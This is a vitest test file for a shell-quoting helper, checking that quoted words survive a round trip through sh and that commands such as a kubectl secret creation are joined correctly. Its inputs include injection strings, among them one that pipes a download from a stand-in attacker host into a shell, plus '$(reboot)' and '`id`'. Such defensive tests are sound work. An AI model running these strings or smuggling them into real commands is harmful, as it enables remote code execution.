import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { shellCommand, shellQuote } from './shellQuote.js';

describe('shellQuote', () => {
  it('leaves plain words alone and quotes anything a shell would interpret, so sh reads back the same word', () => {
    expect(shellQuote('pro-builder')).toBe('pro-builder');
    for (const word of ['x; curl https://evil.example/p | sh #', "it's", '$(reboot)', '`id`', 'a b', '', '~/x', '*']) {
      const quoted = shellQuote(word);
      expect(execFileSync('sh', ['-c', `printf %s ${quoted}`], { encoding: 'utf8' })).toBe(word);
    }
  });

  it('joins a command from words', () => {
    expect(shellCommand(['kubectl', 'create', 'secret', 'generic', 'a b', '-n', 'openfaas'])).toBe(
      "kubectl create secret generic 'a b' -n openfaas",
    );
  });
});
